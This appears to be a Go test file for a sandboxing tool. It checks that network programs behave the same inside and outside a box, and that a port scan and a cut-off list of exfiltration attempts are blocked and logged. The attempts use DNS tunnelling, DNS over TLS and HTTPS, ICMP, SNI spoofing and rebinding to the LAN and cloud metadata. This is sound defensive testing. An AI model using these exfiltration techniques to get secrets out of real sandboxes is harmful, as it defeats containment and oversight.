package cli

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sandglass/sandglass/core"
	"github.com/sandglass/sandglass/testworld"
)

// netLab is a state folder in the test's world, and what is run there natively and in
// boxes.
type netLab struct {
	*testing.T
	w    *testworld.World
	home Home
	dir  string // real files, where programs run
	env  []string
}

func newNetLab(t *testing.T, w *testworld.World) *netLab {
	real := t.TempDir()
	for _, d := range []string{"work", "home", "tmp"} {
		if err := os.Mkdir(filepath.Join(real, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	l := &netLab{T: t, w: w, home: Home(filepath.Join(t.TempDir(), "home")), dir: filepath.Join(real, "work")}
	l.env = append(programsEnv(real), "CA="+w.CA, "SANDGLASS_HOME="+string(l.home))
	t.Cleanup(func() {
		if out, code := l.run(nil, "sandglass", "stop"); code != 0 {
			t.Errorf("stop: %s", out)
		}
	})
	return l
}

// in is the same in a folder of its own, for a test below.
func (l *netLab) in(t *testing.T) *netLab {
	dir, err := os.MkdirTemp(l.dir, "")
	if err != nil {
		t.Fatal(err)
	}
	return &netLab{T: t, w: l.w, home: l.home, dir: dir, env: slices.Clone(l.env)}
}

func (l *netLab) command(argv ...string) *exec.Cmd {
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir, cmd.Env = l.dir, l.env
	return cmd
}

// run runs a program and returns what it printed and its exit code.
func (l *netLab) run(stdin io.Reader, argv ...string) (string, int) {
	l.Helper()
	cmd := l.command(argv...)
	cmd.Stdin = stdin
	out, _ := cmd.CombinedOutput()
	if cmd.ProcessState == nil {
		l.Fatalf("%q did not start", argv)
	}
	return string(out), cmd.ProcessState.ExitCode()
}

// inBox is the command line that runs a program in a box that goes with it.
func inBox(box string, flags []string, argv ...string) []string {
	return slices.Concat([]string{"sandglass", "run", "--rm", "--box", box, "--net", "own"}, flags, []string{"--"}, argv)
}

// ops returns the operations of a box that a query matches.
func (l *netLab) ops(box, query string) (ops []core.Operation) {
	l.Helper()
	cmd := l.command("sandglass", "ops", "--box", box, "--limit", "0", "--json", query)
	var errs bytes.Buffer
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		l.Fatalf("ops %s: %v: %s", query, err, errs.String())
	}
	for line := range strings.Lines(string(out)) {
		var op core.Operation
		if err := json.Unmarshal([]byte(line), &op); err != nil {
			l.Fatal(err)
		}
		ops = append(ops, op)
	}
	return ops
}

// say shows operations, a line each.
func say(ops []core.Operation) string {
	var b strings.Builder
	for _, op := range ops {
		fmt.Fprintf(&b, "  %s %s %s %s %s by %s: %s %v\n", op.Verdict, op.Surface, op.Action, op.Target, op.Errno, op.Exe, op.Rule, op.Detail)
	}
	return b.String()
}

// heard returns what the Internet has heard.
func (l *netLab) heard() []testworld.Heard {
	l.Helper()
	hs, err := l.w.Heard()
	if err != nil {
		l.Fatal(err)
	}
	return hs
}

func (l *netLab) forget() {
	l.Helper()
	if err := l.w.Forget(); err != nil {
		l.Fatal(err)
	}
}

type networkProgram struct {
	name   string
	needs  []string
	setup  string // outside, before both
	start  func(*testworld.World) error
	script string
	want   string // a regular expression
}

// onTheNetwork are real programs and what they do with servers of the world. Natively and in
// a box they must print the same and end with the same code.
var onTheNetwork = []networkProgram{
	{
		name:  "curl, HTTP and HTTPS by name, of both kinds of address, with two versions of TLS",
		needs: []string{"curl"},
		script: `for v in 4 6; do for u in http://www.example.test/ http://alias.example.test:8080/x https://www.example.test/ https://tls12.example.test/; do
			curl -sS -$v --cacert $CA -w '%{http_code} %{http_version} %{ssl_verify_result} %{remote_ip}\n' $u; done; done`,
		want: `^(hello from .*\n200 (1.1|2) 0 (203\.0\.113\.1[02]|2001:db8:beef::1[02])\n){8}$`,
	},
	{
		name:  "curl's errors of connecting",
		needs: []string{"curl"},
		script: `try() { c=0; curl -sS -o /dev/null "$@" 2>e || c=$?; sed 's/after [0-9]* ms//; s/with [0-9.]* *//' e; echo $c; }
			try http://203.0.113.10:8999/; try http://[2001:db8:beef::10]:8999/; try http://refused.example.test:8999/; try http://203.0.113.201/
			try --connect-timeout 1 http://203.0.113.200/; try http://nothing.example.test/; try --max-time 1 http://203.0.113.10:8001/ | sed 's/[0-9]* milli.*//'
			try http://203.0.113.10:8003/; try http://203.0.113.10:8002/; try http://203.0.113.10:8004/; try http://www.example.test/half; try --cacert /dev/null https://203.0.113.10/`,
		want: `(?s)port 8999.*Couldn't connect to server\n7\n.*\n7\n.*\n7\n.*\n7\n.*\n28\n.*nothing.example.test\n6\n.*\n28\n.*reset by peer\n56\n.*\n18\n.*\n1\n.*\n18\n`,
	},
	{
		name:   "the end of one way before the other",
		script: `visit half 203.0.113.10 8005 1000000; visit half 2001:db8:beef::10 8005 1`,
		want:   "^1000000 " + testworld.StreamSum(1000000) + " <nil>\n1 " + testworld.StreamSum(1) + " <nil>\n$",
	},
	{
		name:   "64 MiB each way",
		needs:  []string{"curl"},
		script: `curl -sS -o f 'http://www.example.test/bytes?n=67108864'; sha256sum f; curl -sS -H 'Expect:' -T f https://www.example.test/sum --cacert $CA`,
		want:   "^" + testworld.StreamSum(64<<20) + "  f\n67108864 " + testworld.StreamSum(64<<20) + " <nil>\n$",
	},
	{
		name:  "git over HTTP",
		needs: []string{"git"},
		setup: `d=$(dirname $CA)/www/git.example.test; mkdir -p $d; git init -q -b main $d/src; cd $d/src; for i in 1 2 3; do head -c 200000 /dev/zero | tr '\0' $i > f$i; git add .; git commit -qm c$i; done
			git clone -q --bare . ../repo.git`,
		script: `git clone -q http://git.example.test/repo.git c; cd c; git log --format=%s; sha256sum f*; echo x > x; git add x; git commit -qm more; git push -q origin HEAD:$PUSH; git ls-remote origin | grep -c $PUSH`,
		want:   `^c3\nc2\nc1\n.*f1\n.*f2\n.*f3\n1\n$`,
	},
	{
		name:  "npm with a registry",
		needs: []string{"npm", "node"},
		setup: `d=$(dirname $CA)/www/registry.example.test; mkdir -p $d/-/ pkg; echo '{"name":"tinypkg","version":"1.0.0","main":"i.js"}' > pkg/package.json; echo 'module.exports="installed"' > pkg/i.js
			npm pack --silent ./pkg >/dev/null; cp tinypkg-1.0.0.tgz $d/-/; s=$(sha1sum tinypkg-1.0.0.tgz | cut -d' ' -f1)
			echo '{"name":"tinypkg","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"tinypkg","version":"1.0.0","main":"i.js","dist":{"shasum":"'$s'","tarball":"http://registry.example.test/-/tinypkg-1.0.0.tgz"}}}}' > $d/tinypkg`,
		script: `mkdir app; cd app; echo '{"name":"app","version":"1.0.0"}' > package.json; npm install --silent --no-audit --no-fund --cache ./cache --registry http://registry.example.test/ tinypkg; node -p 'require("tinypkg")'`,
		want:   `installed\n$`,
	},
	{
		name:  "dig",
		needs: []string{"dig"},
		script: `dig +short www.example.test; dig +short AAAA www.example.test; dig +short alias.example.test; dig +short TXT text.example.test; dig +short big.example.test | wc -l
			dig +short +tcp x.debian.test; dig nothing.example.test | grep -o 'status: [A-Z]*'; dig v6.example.test | grep -o 'status: [A-Z]*\|ANSWER: [0-9]*'; dig +short @8.8.8.8 www.example.test; dig +short loop-cname.test | head -1; getent hosts v4.example.test; getent ahosts www.example.test | awk '{print $1, $2}' | LC_ALL=C sort -u`,
		want: `^203\.0\.113\.10\n2001:db8:beef::10\nhop\.example\.test\.\nhop2\.other\.test\.\nwww\.example\.test\.\n203\.0\.113\.10\n"hello world"\n200\n203\.0\.113\.11\nstatus: NXDOMAIN\nstatus: NOERROR\nANSWER: 0\n203\.0\.113\.10\n`,
	},
	{
		name:   "ping",
		needs:  []string{"ping"},
		script: `for a in 203.0.113.10 2001:db8:beef::10 www.example.test; do ping -c 2 -i 0.2 -s 1000 $a | grep -o '[0-9]* packets transmitted, [0-9]* received'; done; c=0; ping -c 1 -W 1 203.0.113.200 >o || c=$?; grep -o '[0-9]* received' o; echo $c`,
		want:   `^(2 packets transmitted, 2 received\n){3}0 received\n1\n$`,
	},
	{
		name:   "QUIC",
		script: `visit quic 203.0.113.10 443 quic.example.test $CA 1000000; visit quic 2001:db8:beef::10 443 quic.example.test $CA 1000000`,
		want:   "^(1000000 " + testworld.StreamSum(1000000) + "\n){2}$",
	},
	{
		name:   "datagrams, and that nobody listens",
		script: `visit udp 203.0.113.20 7 hello; visit sendto 2001:db8:beef::20 7 hello; visit udp 203.0.113.20 8 hello || true; visit udp 203.0.113.200 8 hello`,
		want:   "^answer 5\nanswer 5\nECONNREFUSED\nno answer\n$",
	},
	{
		name:   "datagrams that do not fit the link",
		script: `x=$(head -c 5000 /dev/zero | tr '\0' x); for a in 203.0.113.20 2001:db8:beef::20; do for i in 1 2; do visit udp $a 7 $x; done; done`,
		want:   "^(answer 5000\n){4}$",
	},
	{
		name:   "the errno of connecting",
		script: `i=0; for a in '203.0.113.10 8999' '2001:db8:beef::10 8999' '203.0.113.201 80' '203.0.113.202 80' '203.0.113.99 80' '2001:db8:beef::99 80' '203.0.113.10 80'; do i=$((i + 1)); visit tcp $a x >$i.out & done; wait; cat ?.out`,
		want:   "^ECONNREFUSED\nECONNREFUSED\nEHOSTUNREACH\nEHOSTUNREACH\nENETUNREACH\n(ENETUNREACH|EHOSTUNREACH)\nconnected\n$",
	},
	{
		name:  "ssh",
		needs: []string{"ssh", "ssh-keygen", "/usr/sbin/sshd"},
		setup: `d=$(dirname $CA); ssh-keygen -q -t ed25519 -N '' -f key; ssh-keygen -q -t ed25519 -N '' -f $d/host; cp key.pub $d/authorized; echo "$(id -un)" > user
			printf '%s\n' "Port 2222" "HostKey $d/host" "AuthorizedKeysFile $d/authorized" "StrictModes no" "UsePAM no" "PidFile none" "PermitRootLogin yes" "PrintLastLog no" > $d/sshd_config
			[ $(id -u) != 0 ] || mkdir -p /run/sshd`,
		start: func(w *testworld.World) error {
			return w.Start(2222, "/usr/sbin/sshd", "-D", "-e", "-f", filepath.Join(w.Dir, "sshd_config"))
		},
		script: `s="ssh -F none -p 2222 -i key -l $(cat user) -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=known -o LogLevel=ERROR ssh.example.test"
			$s 'echo there; exit 3' || echo $?; head -c 1000000 /dev/zero | $s sha256sum; $s 'head -c 1000000 /dev/zero' | sha256sum`,
		want: "^there\n3\n(d29751f2649b32ff572b5e0a9f541ea660a50f94ff0beedfb0b692b924cc8025  -\n){2}$",
	},
}

// TestProgramsOnTheNetwork runs real programs natively and in boxes with a network of their
// own, against the same servers.
func TestProgramsOnTheNetwork(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		all := newNetLab(t, w)
		t.Run("all", func(t *testing.T) { // of which each waits most of the time
			for i, p := range onTheNetwork {
				t.Run(p.name, func(t *testing.T) {
					t.Parallel()
					p.test(all.in(t), fmt.Sprint("p", i))
				})
			}
		})
	})
}

func (p *networkProgram) test(l *netLab, box string) {
	needPrograms(l.T, os.Getenv("PATH"), p.needs...)
	if out, code := l.run(nil, "sh", "-ec", p.setup+"\n:"); code != 0 {
		l.Fatalf("the setup: exit code %d\n%s", code, out)
	}
	if p.start != nil {
		if err := p.start(l.w); err != nil {
			l.Fatal(err)
		}
	}
	l.env = append(l.env, "PUSH=boxed")
	began := time.Now()
	got, code := l.run(nil, inBox(box, nil, "sh", "-ec", p.script)...)
	took := time.Since(began)
	l.env = append(l.env, "PUSH=native")
	began = time.Now()
	out, want := l.run(nil, "sh", "-ec", p.script)
	l.Logf("in the box %v, outside %v", took, time.Since(began))
	if want != 0 || !regexp.MustCompile(p.want).MatchString(out) {
		l.Fatalf("natively: exit code %d\n%s\nwant\n%s", want, out, p.want)
	}
	if code != want || got != out {
		l.Errorf("in the box: exit code %d\n%s\nnatively: exit code %d\n%s\n%s", code, got, want, out, say(l.ops(box, "surface:net.* or verdict:blocked")))
	}
}

// TestAFlowIsOnRecord holds the log of one request to what is known of it.
func TestAFlowIsOnRecord(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		l := newNetLab(t, w)
		needPrograms(t, os.Getenv("PATH"), "curl")
		if out, code := l.run(nil, inBox("it", nil, "sh", "-c", `curl -4 -sS -o /dev/null --cacert $CA 'https://tls12.example.test/bytes?n=1000000'; curl -sS http://203.0.113.10:8999/`)...); code != 7 {
			t.Fatalf("exit code %d: %s", code, out)
		}
		ops := l.ops("it", "surface:net.*")
		flows := map[string]*core.FlowView{}
		var refused, resolved bool
		for _, op := range ops {
			if f := op.Detail["flow"]; f != "" {
				if flows[f] == nil {
					flows[f] = &core.FlowView{}
				}
				flows[f].Fold(&op)
			}
			resolved = resolved || op.Surface == core.NetDNS && op.Action == "resolve" && op.Target == "tls12.example.test" && op.Verdict == core.Allowed && strings.Contains(op.Detail["answers"], "203.0.113.12")
			refused = refused || op.Detail["flow"] != "" && op.Target == "203.0.113.10:8999" && op.Verdict == core.Allowed && op.Errno == "ECONNREFUSED"
		}
		ok := false
		for _, f := range flows {
			if f.Target != "203.0.113.12:443" {
				continue
			}
			ok = filepath.Base(f.Exe) == "curl" && f.PID > 1 && f.Proc != "" && f.Surface == core.NetOut && f.Proto == "tcp" && f.Name == "tls12.example.test" &&
				f.Verdict == core.Allowed && (f.Reason == "fin" || f.Reason == "reset") && // curl closes before the server has f.Received > 1_000_000 && f.Received < 1_100_000 && f.Sent > 100 && f.Sent < 10_000 && f.PktsIn > 10 && f.PktsOut > 5 && !f.End.IsZero() &&
				strings.Contains(f.Cert, "tls12.example.test") && f.ALPN != ""
			t.Logf("%+v", *f)
		}
		if !ok || !refused || !resolved {
			t.Errorf("the flow is right: %v, the refused one: %v, the name: %v\n%s", ok, refused, resolved, say(ops))
		}
	})
}

// TestALoopbackPortThatIsGranted has PostgreSQL serve on the machine's loopback, and the
// box reach it, and nothing else, by a rule.
func TestALoopbackPortThatIsGranted(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		l := newNetLab(t, w)
		if os.Geteuid() == 0 {
			t.Skip("initdb refuses to run as root; make test runs it as an ordinary user too")
		}
		path := os.Getenv("PATH")
		if servers, err := filepath.Glob("/usr/lib/postgresql/*/bin"); err == nil && len(servers) > 0 {
			path += ":" + servers[len(servers)-1]
		}
		l.env = append(l.env, "PATH="+path)
		needPrograms(t, path, "psql", "initdb", "pg_ctl")
		if out, code := l.run(nil, "sh", "-ec", `initdb -D data -A trust -U me --no-sync >/dev/null; pg_ctl -D data -o "-k $PWD -p 5432 -F -h 127.0.0.1" -l log -w start >/dev/null`); code != 0 {
			t.Fatalf("PostgreSQL: %s", out)
		}
		t.Cleanup(func() { l.run(nil, "pg_ctl", "-D", "data", "-w", "-m", "fast", "stop") })
		script := `psql -h 127.0.0.1 -U me -qAtc 'create temp table t(a int); insert into t select generate_series(1,1000); select sum(a) from t' postgres`
		if out, code := l.run(nil, inBox("no", nil, "sh", "-ec", script)...); code == 0 {
			t.Errorf("without a rule: %s", out)
		}
		if out, code := l.run(nil, inBox("yes", []string{"--rule", "allow 127.0.0.1:5432"}, "sh", "-ec", script)...); code != 0 || out != "500500\n" {
			t.Errorf("with a rule: exit code %d\n%s\n%s", code, out, say(l.ops("yes", "surface:net.* or surface:ipc.loopback or verdict:blocked")))
		}
		ops := l.ops("yes", "surface:ipc.loopback")
		if !slices.ContainsFunc(ops, func(op core.Operation) bool {
			return op.Action == core.ActConnect && op.Target == "127.0.0.1:5432" && op.Verdict == core.Allowed && op.Leak && strings.HasSuffix(op.Exe, "/psql")
		}) {
			t.Errorf("it is not on record as the leak that it is:\n%s", say(ops))
		}
	})
}

// TestAPortIsPublished serves from a box.
func TestAPortIsPublished(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		l := newNetLab(t, w)
		needPrograms(t, os.Getenv("PATH"), "curl", "python3")
		port := freePort(t)
		cmd := l.command(inBox("it", []string{"--publish", "127.0.0.1:" + port + ":8000"}, "python3", "-u", "-m", "http.server", "8000", "--bind", "0.0.0.0")...)
		cmd.Env = append(l.env, "PYTHONUNBUFFERED=1")
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		var errs bytes.Buffer
		cmd.Stderr = &errs
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		if line, err := bufio.NewReader(out).ReadString('\n'); err != nil || !strings.HasPrefix(line, "Serving") {
			t.Fatalf("%q %v %s", line, err, errs.String())
		}
		if err := os.WriteFile(filepath.Join(l.dir, "file"), []byte("from the box\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if said, code := l.run(nil, "curl", "-sS", "http://127.0.0.1:"+port+"/file"); code != 0 || said != "from the box\n" {
			t.Errorf("exit code %d: %s", code, said)
		}
		// Only there.
		for _, addr := range []string{testworld.Machine.String(), "127.0.0.2", "[::1]", "[" + testworld.Machine6.String() + "]"} {
			if said, code := l.run(nil, "curl", "-sS", "http://"+addr+":"+port+"/file"); code != 7 {
				t.Errorf("%s: exit code %d: %s", addr, code, said)
			}
		}
		cmd.Process.Signal(os.Interrupt)
		cmd.Wait()
		ops := l.ops("it", "surface:net.in")
		if !slices.ContainsFunc(ops, func(op core.Operation) bool {
			return op.Action == core.ActAccept && op.Verdict == core.Allowed && op.Detail["port"] == "8000"
		}) {
			t.Errorf("the connection is not on record:\n%s\n%s", say(ops), errs.String())
		}
	})
}

func freePort(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
}

// TestTheNetworkFails has the world lose, delay, lie and flood.
func TestTheNetworkFails(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		all := newNetLab(t, w)
		needPrograms(t, os.Getenv("PATH"), "curl", "dig")
		sum := testworld.StreamSum(4 << 20)
		flood := int64(256 << 20)
		if os.Getenv("SANDGLASS_LONG") != "" {
			flood = 10 << 30
		}
		for i, c := range []struct {
			name, script, want string
			lose               int
			delay              time.Duration
		}{
			{name: "packets are lost and late", lose: 10, delay: 10 * time.Millisecond,
				script: `curl -sS -o f 'http://far.example.test/bytes?n=4194304'; sha256sum f; curl -4 -sS -H 'Expect:' -T f http://far.example.test/sum; ping -q -c 1 far4.example.test >/dev/null || true`,
				want:   "^" + sum + "  f\n4194304 " + sum + " <nil>\n$"},
			{name: "a third of the packets is lost", lose: 300, script: `curl -sS --retry 3 http://far4.example.test/`, want: "^hello from far4.example.test\n$"},
			{name: "a server that never answers", script: `curl -sS --max-time 1 http://203.0.113.10:8001/ 2>/dev/null || echo $?; curl -sS --max-time 1 http://www.example.test/never 2>/dev/null || echo $?`, want: "^28\n28\n$"},
			{name: "a flood", script: fmt.Sprint("visit download 203.0.113.10 19 ", flood), want: fmt.Sprint("^", flood, "\n$")},
			{name: "answers about names that are hostile",
				script: `for n in wrong-id wrong-name loop garbage short lies huge never; do { dig +tries=1 +time=1 +short $n.hostile.test >/dev/null 2>&1; timeout 1 getent hosts $n.hostile.test; } & done; wait
					dig +short v4.example.test; curl -sS http://www.example.test/`, want: "^203.0.113.10\nhello from www.example.test\n$"},
		} {
			t.Run(c.name, func(t *testing.T) {
				l := all.in(t)
				if c.lose > 0 {
					if !w.HasFar() {
						needTun(t)
					}
					if err := w.SetHop(c.lose, c.delay); err != nil {
						t.Fatal(err)
					}
				}
				began := time.Now()
				box := fmt.Sprint("f", i)
				got, code := l.run(nil, inBox(box, nil, "sh", "-ec", c.script)...)
				t.Logf("took %v", time.Since(began))
				if code != 0 || !regexp.MustCompile(c.want).MatchString(got) {
					t.Errorf("in the box: exit code %d\n%s\nwant %s\n%s", code, got, c.want, say(l.ops(box, "surface:net.*")))
				}
			})
		}
	})
}

func needTun(t *testing.T) {
	t.Helper()
	const why = "/dev/net/tun cannot be opened: tools/setup.sh opens it"
	if os.Getenv("SANDGLASS_NO_SKIP") != "" {
		t.Fatal(why)
	}
	t.Skip(why)
}

// TestAPortScanFindsNothing scans the machine, its own addresses and those of its network,
// from a box: nobody is there. Natively all of them are.
func TestAPortScanFindsNothing(t *testing.T) {
	testworld.In(t, func(t *testing.T, w *testworld.World) {
		l := newNetLab(t, w)
		// Not 53, where the box's own resolver answers for everybody.
		const ports = "1-52,54-120,443,1009,5432,8001,8080,9090"
		for _, port := range []string{"5432", "9090"} {
			ln, err := net.Listen("tcp", ":"+port)
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
		}
		machine := []string{"127.0.0.1", "127.0.0.2", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::", "198.51.100.2", "192.168.77.2", "2001:db8:51::2", "::ffff:198.51.100.2"}
		if ifi, err := net.InterfaceByName("lan0"); err == nil {
			if addrs, err := ifi.Addrs(); err == nil {
				for _, a := range addrs {
					if n, ok := a.(*net.IPNet); ok && n.IP.IsLinkLocalUnicast() {
						machine = append(machine, n.IP.String())
					}
				}
			}
		}
		others := []string{"198.51.100.1", "192.168.77.1", "169.254.169.254", "2001:db8:51::1", "::ffff:192.168.77.1"}
		out, _ := l.run(nil, append([]string{"visit", "scan", ports}, append(machine, others...)...)...)
		for _, a := range append(slices.Clone(machine), others...) {
			if !strings.Contains(out, a+":") && !strings.Contains(out, "["+a+"]:") && !strings.Contains(a, "fe80") {
				t.Errorf("the control did not find %s: %s", a, out)
			}
		}
		l.forget()
		scan := append([]string{"visit", "scan", ports}, append(append(machine, others...), "192.0.2.1", "192.0.2.2", "2001:db8:5361::1", "255.255.255.255", "224.0.0.1")...)
		out, code := l.run(nil, inBox("it", nil, scan...)...)
		if code != 0 || !strings.HasSuffix(strings.TrimSpace(out), "open:") {
			t.Errorf("in the box, exit code %d: %s", code, out)
		}
		if hs := l.heard(); len(hs) != 0 {
			t.Errorf("the Internet has heard %d things: %v", len(hs), hs[:min(len(hs), 10)])
		}
		blocked := map[string]core.Surface{}
		for _, op := range l.ops("it", "verdict:blocked") {
			if filepath.Base(op.Exe) == "visit" {
				blocked[op.Target] = op.Surface
			}
		}
		for _, at := range []string{"198.51.100.2:5432", "192.168.77.2:9090", "[2001:db8:51::2]:5432"} {
			if blocked[at] != core.IPCLoopback {
				t.Errorf("%s is not on record as blocked (%q)", at, blocked[at])
			}
		}
		for _, at := range []string{"198.51.100.1:80", "192.168.77.1:80", "169.254.169.254:80", "[2001:db8:51::1]:80"} {
			if blocked[at] != core.NetOut {
				t.Errorf("%s is not on record as blocked (%q)", at, blocked[at])
			}
		}
	})
}

// allowList lets one name through and nothing else.
var allowList = []string{"--set", "net.out=block", "--rule", "allow allowed.example.test:443"}

type exfiltration struct {
	name    string
	flags   []string
	alone   bool
	script  string
	op      string // a regular expression of what is on record: "surface action target"
	verdict core.Verdict
	exe     string // the program on record; "visit" when it is ""
	heard   string // a regular expression of what may be heard all the same
	deaf    bool   // natively it is not heard, either
}

// exfiltrations are ways to get SECRET out of a box. Each is run natively first, where it
// has to be heard: the control.
var exfiltrations = []exfiltration{
	{name: "a name below somebody's own", flags: allowList, script: `visit dns 203.0.113.53 SECRET.tunnel.test`, op: `^net.dns resolve SECRET.tunnel.test`},
	{name: "a name, through the C library", flags: allowList, script: `getent hosts SECRET.tunnel.test`, op: `^net.dns resolve SECRET.tunnel.test`, exe: "getent"},
	{name: "a name, asked somewhere else", flags: allowList, script: `visit dns 8.8.8.8 SECRET.tunnel.test`, op: `^net.dns resolve SECRET.tunnel.test`},
	{name: "a name, asked somewhere else by TCP", flags: allowList, script: `dig +tcp +tries=1 +time=2 @8.8.8.8 SECRET.tunnel.test`, op: `^net.dns resolve SECRET.tunnel.test`, exe: "dig"},
	{name: "a name that is allowed is asked of the resolver, whoever was to be asked", script: `visit dns 8.8.8.8 SECRET.tunnel.test`, op: `^net.dns resolve SECRET.tunnel.test`, verdict: core.Redirected,
		heard: `^(wire udp from \S+ to 203\.0\.113\.53:53|dns  from \S+ to 203\.0\.113\.53:53)`},
	{name: "a name by the server of the LAN", flags: allowList, script: `visit dns 192.168.77.1 SECRET.tunnel.test`, op: `^net.dns resolve SECRET.tunnel.test`},
	{name: "DNS over TLS", script: `visit tls 8.8.8.8 853 dns.google SECRET`, op: `^net.dns connect 8.8.8.8:853`},
	{name: "DNS over HTTPS", script: `visit tls 8.8.8.8 443 dns.google SECRET`, op: `^net.dns connect 8.8.8.8:443`},
	{name: "DNS over HTTPS, at an address that nobody knows", script: `visit tls 203.0.113.10 443 dns.google SECRET`, op: `^net.dns \S+ (203.0.113.10:443|dns.google)`, heard: `^(wire tcp|tls  .*"dns.google"$)`},
	{name: "DNS over QUIC", script: `visit udp 8.8.8.8 853 SECRET`, op: `^net.dns (connect|send) 8.8.8.8:853`},
	{name: "ICMP", flags: allowList, script: `visit ping 203.0.113.10 SECRET`, op: `^net.out \S+ 203.0.113.10`},
	{name: "ICMP of IPv6", flags: allowList, script: `visit ping 2001:db8:beef::10 SECRET`, op: `^net.out \S+ \S*2001:db8:beef::10`},
	{name: "UDP", flags: allowList, script: `visit udp 203.0.113.20 7 SECRET`, op: `^net.out (connect|send) 203.0.113.20:7`},
	{name: "UDP that is not connected", flags: allowList, script: `visit sendto 203.0.113.20 7 SECRET`, op: `^net.out send 203.0.113.20:7`},
	{name: "UDP of IPv6", flags: allowList, script: `visit udp 2001:db8:beef::20 7 SECRET`, op: `^net.out (connect|send) \[2001:db8:beef::20\]:7`},
	{name: "QUIC", flags: allowList, script: `visit quic 203.0.113.10 443 SECRET.example.test $CA 10`, op: `^net.out \S+ 203.0.113.10:443`},
	{name: "HTTP by address", flags: allowList, script: `visit http 203.0.113.10 80 x SECRET`, op: `^net.out connect 203.0.113.10:80`},
	{name: "HTTP of IPv6", flags: allowList, script: `visit http 2001:db8:beef::10 80 x SECRET`, op: `^net.out connect \[2001:db8:beef::10\]:80`},
	{name: "an IPv4 address in an IPv6 one", flags: allowList, script: `visit http ::ffff:203.0.113.10 80 x SECRET`, op: `^net.out connect \S*203.0.113.10\S*:80`},
	{name: "fast open", flags: allowList, script: `visit fastopen 203.0.113.10 8007 SECRET`, op: `^net.out \S+ 203.0.113.10:8007`},
	{name: "another port of the name that is allowed", flags: allowList, script: `getent hosts allowed.example.test >/dev/null; visit http 203.0.113.15 80 allowed.example.test SECRET`, op: `^net.out connect 203.0.113.15:80`, heard: `53:53`},
	{name: "another name at the address that is allowed", flags: allowList, script: `getent hosts allowed.example.test >/dev/null; visit tls 203.0.113.15 443 blocked.example.test SECRET`, op: `^net.out identify blocked.example.test`, heard: `53:53|^wire tcp from \S+ to 203.0.113.15:443`},
	{name: "another name at its address, that was not asked for", flags: allowList, alone: true, script: `visit tls 203.0.113.15 443 blocked.example.test SECRET`, op: `^net.out (identify blocked.example.test|connect 203.0.113.15:443)`, heard: `^wire tcp from \S+ to 203.0.113.15:443`},
	{name: "the name that is allowed, said to another's address", flags: allowList, alone: true, script: `visit tls 203.0.113.10 443 allowed.example.test SECRET`, op: `^net.out (identify|connect) (allowed.example.test|203.0.113.10:443)`, heard: `53:53`},
	{name: "the same in HTTP", flags: []string{"--set", "net.out=block", "--rule", "allow allowed.example.test:80"}, script: `visit http 203.0.113.10 80 allowed.example.test SECRET`, op: `^net.out (identify|connect) (allowed.example.test|203.0.113.10:80)`, heard: `53:53`},
	{name: "what is no TLS, to the address that is allowed", flags: allowList, alone: true, script: `visit http 203.0.113.15 443 blocked.example.test SECRET`, op: `^net.out (connect|identify) `, heard: `^wire tcp from \S+ to 203.0.113.15:443`, deaf: true},
	{name: "a name that leads to the LAN", script: `curl -sS http://rebind-lan.test/SECRET`, op: `^net.out connect 192.168.77.1:80`, exe: "curl", heard: `53:53`},
	{name: "a name that leads to both", script: `curl -sS http://rebind-mixed.test/ -o /dev/null; visit http 192.168.77.1 80 rebind-mixed.test SECRET`, op: `^net.out connect 192.168.77.1:80`, heard: `53:53|203.0.113.10:80`},
	{name: "a name that leads to the metadata", script: `curl -sS http://rebind-meta.test/SECRET`, op: `^net.out connect 169.254.169.254:80`, exe: "curl", heard: `53:53`},
	{name: "the same, though a rule allows the name", flags: []string{"--rule", "allow rebind-lan.test"}, script: `curl -sS http://rebind-lan.test/SECRET`, op: `^net.out connect 192.168.77.1:80`, exe: "curl", heard: `53:53`},
	{name: "the metadata", script: `visit http 169.254.169.254 80 x SECRET`, op: `^net.out connect 169.254.169.254:80`},
	{name: "the LAN", script: `visit http 192.168.77.1 80 x SECRET`, op: `^net.out connect 192.168.77.1:80`},
	{name: "the gateway, which is on the link", script: `visit http 198.51.100.1 80 x SECRET`, op: `^net.out connect 198.51.100.1:80`},
	{name: "the gateway's IPv6", script: `visit http 2001:db8:51::1 80 x SECRET`, op: `^net.out connect \[2001:db8:51::1\]:80`},
	{name: "the LAN, in an IPv6 address", script: `visit http ::ffff:192.168.77.1 80 x SECRET`, op: `^net.out connect \S*192.168.77.1\S*:80`},
	{name: "the LAN, through NAT64", script: `visit http 64:ff9b::c0a8:4d01 80 x SECRET`, op: `^net.out connect \[64:ff9b::\S+\]:80`, deaf: true},
	{name: "UDP to the LAN", script: `visit udp 192.168.77.1 7 SECRET`, op: `^net.out (connect|send) 192.168.77.1:7`},
	{name: "ping to the LAN", script: `visit ping 192.168.77.1 SECRET`, op: `^net.out \S+ 192.168.77.1`},
	{name: "multicast", script: `visit sendto 224.0.0.251 5353 SECRET`, op: `^net.out send 224.0.0.251:5353`},
	{name: "multicast of IPv6", script: `visit sendto ff02::fb 5353 SECRET`, op: `^net.out send \[ff02::fb\S*\]:5353`},
	{name: "broadcast", script: `visit sendto 255.255.255.255 9999 SECRET`, op: `^net.out send 255.255.255.255:9999`},
